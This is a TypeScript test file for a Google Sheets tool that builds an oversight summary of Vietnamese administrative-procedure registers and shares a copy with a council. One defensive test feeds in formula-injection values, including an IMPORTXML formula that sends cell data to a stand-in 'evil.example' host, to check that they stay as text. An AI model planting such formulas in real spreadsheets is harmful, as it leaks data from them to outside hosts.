/**
 * The oversight summary across the registers of `Đơn vị`: registers listed twice or by their several
 * URLs, unreadable rows by the thousand, checkpoints edited by hand, interrupted runs, levels; and what
 * of it reaches the council's copy.
 */
import { buildSummary, UNITS_HEADERS, continueSummary } from '../../src/server/summary/build';
import { shareWithCouncil } from '../../src/server/summary/council';
import { TABS } from '../../src/sheets/schema';
import { readyUnit, registerColumn as col, setConfig } from '../helpers';
import { fillRegister, type Row } from './registerFixture';

const vn = (date: string, hhmm = '17:00') => new Date(`${date}T${hhmm}:00+07:00`);

const PERIOD = { from: '2026-02-15', to: '2026-03-14' };

describe('the oversight summary across registers, at its edges', () => {
  it('writes the summary even when more than ~1000 rows could not be classified (sheet grid is 1000 rows)', () => {
    const { run } = readyUnit(vn('2026-03-20', '09:00'));
    run((_s, ss) =>
      fillRegister(ss, 'UBND xã Yên Lạc', 1500, (row, i) => {
        if (i % 3 > 0) row[col('Thời điểm tiếp nhận') - 1] = '02-03-2026'; // exported as text in another format
      }),
    );
    const answer = run((s) => buildSummary(s, { ...PERIOD, scope: 'this' }));
    expect(answer).toMatchObject({ ok: true });
  });

  /** An oversight workbook whose `Đơn vị` tab lists the given registers (name, reference). */
  function oversight(
    registers: { name: string; size: number; tweak?: (row: Row, i: number) => void }[],
    refs?: (ids: string[]) => string[][],
  ) {
    const unit = readyUnit(vn('2026-03-20', '09:00'));
    const { world, run } = unit;
    const ids: string[] = [];
    for (const r of registers) {
      const book = world.createSpreadsheetData(`Sổ ${r.name}`, 'canbo@example.gov.vn');
      world.run({ user: 'canbo@example.gov.vn', spreadsheetId: book.id }, (s) =>
        fillRegister(s.spreadsheetApp.getActiveSpreadsheet()!, r.name, r.size, r.tweak),
      );
      ids.push(book.id);
    }
    run((_s, ss) => {
      const tab = ss.insertSheet(TABS.units);
      tab.getRange(1, 1, 1, UNITS_HEADERS.length).setValues([[...UNITS_HEADERS]]);
      const rows = refs ? refs(ids) : ids.map((id, i) => [registers[i]!.name, 'Cấp xã', id, '']);
      tab.getRange(2, 1, rows.length, UNITS_HEADERS.length).setValues(rows);
    });
    return unit;
  }
  const unitsValues = (run: ReturnType<typeof readyUnit>['run']) =>
    run((_s, ss) => {
      const sheet = ss.getSheetByName(TABS.summary)!;
      return sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getValues();
    });

  it('does not fail the whole consolidation when one register has many unclassifiable rows (checkpoint cell > 50,000 chars)', () => {
    const { run } = oversight([
      { name: 'Xã A', size: 10 },
      { name: 'Xã B', size: 700, tweak: (row) => (row[col('Thời điểm tiếp nhận') - 1] = '02-03-2026') },
    ]);
    const answer = run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    expect(answer).toMatchObject({ ok: true });
  });

  it('names the consolidating body, never one commune, as the reporting unit and in the title of Biểu II.06a across Đơn vị', () => {
    const { run } = oversight([
      { name: 'UBND xã Tam Hồng', size: 4 },
      { name: 'UBND xã Tề Lỗ', size: 3 },
    ]);
    const official = () => run((s) => buildSummary(s, { ...PERIOD, scope: 'units', official: true }));
    for (const [name, listed] of [
      ['UBND xã Tam Hồng', true],
      ['', false],
    ] as const) {
      setConfig(run, 'Tên đơn vị', name);
      const refused = official();
      expect(refused.ok).toBe(false);
      expect(refused.message).toContain(
        'Biểu số II.06a tổng hợp các đơn vị trong trang “Đơn vị” là báo cáo của cơ quan tổng hợp: hãy ghi “Tên đơn vị” trong trang “Cấu hình” là tên cơ quan đó (ví dụ Văn phòng UBND tỉnh Phú Thọ)',
      );
      expect(refused.message.includes('một đơn vị trong danh sách')).toBe(listed);
    }
    setConfig(run, 'Tên đơn vị', 'Văn phòng UBND tỉnh Phú Thọ');
    expect(official()).toMatchObject({ ok: true });
    const rows = run((_s, ss) => {
      const sheet = ss.getSheetByName('Biểu II.06a')!;
      return sheet
        .getRange(1, 1, 4, 1)
        .getValues()
        .map((r) => r[0]);
    });
    expect(rows).toEqual([
      'Biểu số II.06a/VPCP/KSTT',
      'TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH TẠI CÁC TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG DO VĂN PHÒNG UBND TỈNH PHÚ THỌ TỔNG HỢP',
      '- Đơn vị báo cáo: Văn phòng UBND tỉnh Phú Thọ',
      '- Đơn vị nhận báo cáo: UBND tỉnh Phú Thọ',
    ]);
  });

  it('counts a register once when the Đơn vị tab lists it twice (by URL and by id)', () => {
    const { run } = oversight([{ name: 'Xã A', size: 10 }], (ids) => [
      ['Xã A', 'Cấp xã', `https://docs.google.com/spreadsheets/d/${ids[0]}/edit`, ''],
      ['Xã A (trùng)', 'Cấp xã', ids[0]!, ''],
    ]);
    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const values = unitsValues(run);
    const total = values.find((r) => r[0] === 'Tổng cộng')!;
    expect(total[2]).toBe(10);
  });

  function headUnit(tweak: (row: Row, i: number) => void) {
    const unit = readyUnit(vn('2026-03-20', '09:00'));
    unit.run((_s, ss) => {
      fillRegister(ss, 'UBND xã Yên Lạc', 10, tweak);
      const config = ss.getSheetByName(TABS.config)!;
      const keys = config
        .getRange(1, 1, config.getLastRow(), 1)
        .getValues()
        .map((r) => String(r[0]));
      config.getRange(keys.indexOf('Email thủ trưởng') + 1, 2).setValue('canbo@example.gov.vn');
      config.getRange(keys.indexOf('Email HĐND (bản chỉ xem)') + 1, 2).setValue('daibieu1@hdnd.vn');
    });
    unit.run((s) => buildSummary(s, { ...PERIOD, scope: 'this' }));
    unit.run((s) => shareWithCouncil(s));
    const copy = [...unit.world.spreadsheets.values()].find((b) => b.name.startsWith('Báo cáo giải quyết TTHC cho HĐND'))!;
    const text = JSON.stringify(copy, (_k, v: unknown) => (v instanceof Map ? [...v.entries()] : v instanceof Set ? [...v] : v));
    return { ...unit, copy, text };
  }

  it('keeps formulas typed into Lý do chậm, procedure or unit names as text in the summary and the copy', () => {
    const { copy, run } = headUnit((row, i) => {
      if (i < 3) {
        row[col('Trạng thái') - 1] = 'Đã trả kết quả';
        row[col('Ngày có kết quả') - 1] = vn('2026-03-10', '00:00');
        row[col('Lý do chậm') - 1] = '=IMPORTXML("https://evil.example/?q="&A1,"//a")';
        row[col('Tên thủ tục') - 1] = '+HYPERLINK("https://evil.example","x")';
        row[col('Lĩnh vực') - 1] = '@SUM(1)';
      }
    });
    run((_s, ss) => {
      const sheet = ss.getSheetByName(TABS.summary)!;
      const f = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas().flat().filter(Boolean);
      expect(f).toEqual([]);
    });
    expect(copy.sheets.every((s) => s.formulas.size === 0)).toBe(true);
  });

  it('does not put a citizen’s name or phone typed by mistake into Trạng thái into the council copy (data-quality block)', () => {
    // A row pasted one column off: the applicant's name and phone land in Trạng thái.
    const { text } = headUnit((row, i) => {
      if (i === 4) row[col('Trạng thái') - 1] = 'Nguyễn Thị Bí Mật 0912345678';
    });
    expect({ phone: text.includes('0912345678'), name: text.includes('Nguyễn Thị Bí Mật') }).toEqual({
      phone: false,
      name: false,
    });
  });

  it('opens a register listed by the URL Google shows with several accounts signed in (/spreadsheets/u/1/d/ID)', () => {
    const { run } = oversight([{ name: 'Xã A', size: 10 }], (ids) => [
      ['Xã A', 'Cấp xã', `https://docs.google.com/spreadsheets/u/1/d/${ids[0]}/edit#gid=0`, ''],
    ]);
    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const total = unitsValues(run).find((r) => r[0] === 'Tổng cộng')!;
    expect(total[2]).toBe(10);
  });

  it('says in Vietnamese why a register could not be opened (not Google’s English message)', () => {
    const { run } = oversight([{ name: 'Xã A', size: 3 }], (ids) => [
      ['Xã A', 'Cấp xã', ids[0]!, ''],
      ['Xã sai mã', 'Cấp xã', 'khong-co-so-nay', ''],
    ]);
    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const line = unitsValues(run).find((r) => r[0] === 'Xã sai mã')!;
    expect(String(line[3])).not.toMatch(/Unexpected error|openById|SpreadsheetApp/);
  });

  it('re-reads a checkpoint line that is valid JSON but not a part (tab edited by hand) instead of crashing', () => {
    const { run } = oversight([{ name: 'Xã A', size: 5 }]);
    const ids = run((_s, ss) => String(ss.getSheetByName(TABS.units)!.getRange(2, 3).getValue()));
    run((s, ss) => {
      s.propertiesService
        .getDocumentProperties()!
        .setProperty('motcua.summary.request', JSON.stringify({ from: PERIOD.from, to: PERIOD.to, scope: 'units' }));
      const tab = ss.insertSheet('MotCua – tạm');
      tab.getRange(1, 1, 1, 2).setValues([[ids, '{"name":"Xã A"}']]);
    });
    const answer = run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    expect(answer).toMatchObject({ ok: true });
    expect(unitsValues(run).find((r) => r[0] === 'Tổng cộng')![2]).toBe(5);
  });

  it('groups the units by level (Cấp) of the Đơn vị tab, as Biểu 06 and the seed report do (district vs communes)', () => {
    const { run } = oversight(
      [
        { name: 'Huyện Yên Lạc', size: 4 },
        { name: 'Xã A', size: 3 },
        { name: 'Xã B', size: 2 },
      ],
      (ids) => [
        ['Huyện Yên Lạc', 'Cấp huyện', ids[0]!, ''],
        ['Xã A', 'Cấp xã', ids[1]!, ''],
        ['Xã B', 'Cấp xã', ids[2]!, ''],
      ],
    );
    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const values = unitsValues(run);
    // A subtotal line for the communes (5 received) besides the grand total (9).
    const levelLine = values.find((r) => /Cấp xã/.test(String(r[0])) && r[2] === 5);
    expect(levelLine).toBeDefined();
  });

  it('still counts a unit given `Cấp huyện` for a period after 1/7/2025, and says in the data-quality block that districts no longer exist', () => {
    const district = (from: string, to: string) => {
      const { run } = oversight(
        [
          { name: 'Huyện Yên Lạc', size: 4 },
          { name: 'Xã A', size: 3 },
        ],
        (ids) => [
          ['Huyện Yên Lạc', 'Cấp huyện', ids[0]!, ''],
          ['Xã A', 'Cấp xã', ids[1]!, ''],
        ],
      );
      run((s) => buildSummary(s, { from, to, scope: 'units' }));
      const values = unitsValues(run);
      return {
        total: values.find((r) => r[0] === 'Tổng cộng')![2],
        notes: values.filter((r) => /không còn cấp huyện/.test(String(r[3]))).map((r) => [r[0], r[3]]),
      };
    };
    const now = district(PERIOD.from, PERIOD.to);
    expect(now.total).toBe(7);
    expect(now.notes).toEqual([
      [
        'Huyện Yên Lạc',
        'Cấp “Cấp huyện”: từ 01/07/2025 không còn cấp huyện (Luật Tổ chức chính quyền địa phương số 72/2025/QH15); trang “Đơn vị” nên ghi “Cấp tỉnh” hoặc “Cấp xã” cho kỳ báo cáo này.',
      ],
    ]);
    // A period of the years before: the district was real, nothing to say.
    expect(district('2025-01-01', '2025-06-30').notes).toEqual([]);
  });

  it('counts each register once whatever service call a run is interrupted at, the rerun continuing', () => {
    const regs = [
      { name: 'Xã A', size: 5 },
      { name: 'Xã B', size: 3 },
      { name: 'Xã C', size: 2 },
    ];
    const probe = oversight(regs);
    probe.world.runtime.resetCounters();
    probe.run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const calls = probe.world.runtime.totalCalls();
    const bad: unknown[] = [];
    for (let n = 1; n <= calls; n += 1) {
      const { world, run } = oversight(regs);
      let count = 0;
      world.runtime.onCall = () => {
        count += 1;
        if (count === n) throw new Error('Exceeded maximum execution time');
      };
      try {
        run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
      } catch {
        // interrupted
      }
      world.runtime.onCall = undefined;
      run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
      const values = unitsValues(run);
      const total = values.find((r) => r[0] === 'Tổng cộng')![2];
      const lines = values.filter((r) => /^Xã [ABC]$/.test(String(r[0])) && r[1] === 'Cấp xã').length;
      if (total !== 10 || lines !== 3) bad.push({ n, total, lines });
    }
    expect(bad).toEqual([]);
  });
});

type Run = ReturnType<typeof readyUnit>['run'];

const summaryValues = (run: Run) =>
  run((_s, ss) => {
    const sheet = ss.getSheetByName(TABS.summary)!;
    return sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getValues();
  });
/** An oversight workbook whose `Đơn vị` tab lists registers (rows: tab name, level, register name in its rows, size). */
function oversight(registers: { tabName: string; level: string; rowsName: string; size: number }[]) {
  const unit = readyUnit(vn('2026-03-20', '09:00'));
  const ids = registers.map((r) => {
    const book = unit.world.createSpreadsheetData(`Sổ ${r.tabName}`, 'canbo@example.gov.vn');
    unit.world.run({ user: 'canbo@example.gov.vn', spreadsheetId: book.id }, (s) =>
      fillRegister(s.spreadsheetApp.getActiveSpreadsheet()!, r.rowsName, r.size),
    );
    return book.id;
  });
  unit.run((_s, ss) => {
    const tab = ss.insertSheet(TABS.units);
    tab.getRange(1, 1, 1, UNITS_HEADERS.length).setValues([[...UNITS_HEADERS]]);
    tab
      .getRange(2, 1, ids.length, UNITS_HEADERS.length)
      .setValues(ids.map((id, i) => [registers[i]!.tabName, registers[i]!.level, id, '']));
  });
  return unit;
}

describe('the oversight summary of several registers and periods', () => {
  it('the subtotal per level appears when the Đơn vị tab names a unit otherwise than its register’s rows', () => {
    const { run } = oversight([
      { tabName: 'Huyện Yên Lạc', level: 'Cấp huyện', rowsName: 'UBND huyện Yên Lạc', size: 4 },
      { tabName: 'Xã A', level: 'Cấp xã', rowsName: 'UBND xã A', size: 3 },
      { tabName: 'Xã B', level: 'Cấp xã', rowsName: 'UBND xã B', size: 2 },
    ]);
    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const values = summaryValues(run);
    expect(values.some((r) => /Cấp xã/.test(String(r[0])) && r[2] === 5)).toBe(true);
  });

  it('a unit of the Đơn vị tab with no dossier in the period still has its line (zeros) in Biểu 06', () => {
    const { run } = oversight([
      { tabName: 'Xã A', level: 'Cấp xã', rowsName: 'Xã A', size: 3 },
      { tabName: 'Xã B', level: 'Cấp xã', rowsName: 'Xã B', size: 0 },
    ]);
    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
    const values = summaryValues(run);
    const unitTable = values.slice(
      7,
      values.findIndex((r) => r[0] === 'Tổng cộng'),
    );
    expect(unitTable.map((r) => r[0])).toContain('Xã B');
  });

  it('two reports of different periods at once: the one continued by the follow-up counts no register for the other period', () => {
    const unit = oversight([
      { tabName: 'Xã A', level: 'Cấp xã', rowsName: 'Xã A', size: 3 },
      { tabName: 'Xã B', level: 'Cấp xã', rowsName: 'Xã B', size: 4 },
      { tabName: 'Xã C', level: 'Cấp xã', rowsName: 'Xã C', size: 5 },
    ]);
    const { world, run } = unit;
    const march = { from: '2026-03-01', to: '2026-03-14' }; // all 12 dossiers received 02/03
    const january = { from: '2026-01-01', to: '2026-01-31' }; // none
    let opened = 0;
    world.runtime.onCall = (call) => {
      if (call !== 'SpreadsheetApp.openById' || (opened += 1) !== 2) return;
      world.runtime.onCall = undefined;
      // While the district officer's March report reads Xã B, the secretariat asks for January: a long run
      // that stops at once at its checkpoint (as one near the 6-minute limit does).
      run((s) => buildSummary(s, { ...january, scope: 'units' }, s.clock.now().getTime() - 5 * 60_000));
      // Then the March run, reading Xã B, nears its own limit.
      world.clock.advance(5 * 60_000);
    };
    run((s) => buildSummary(s, { ...march, scope: 'units' }));
    // The follow-up (its trigger) continues the report that was stopped at its checkpoint.
    run((s) => continueSummary(s), 'trigger');
    const values = summaryValues(run);
    // Whichever report the sheet shows, its figures are that period's: no register of the other counted.
    const total = values.find((r) => r[0] === 'Tổng cộng')![2];
    expect(String(values[1]![0]).includes('01/03/2026') ? total === 12 : total === 0).toBe(true);
  });
});
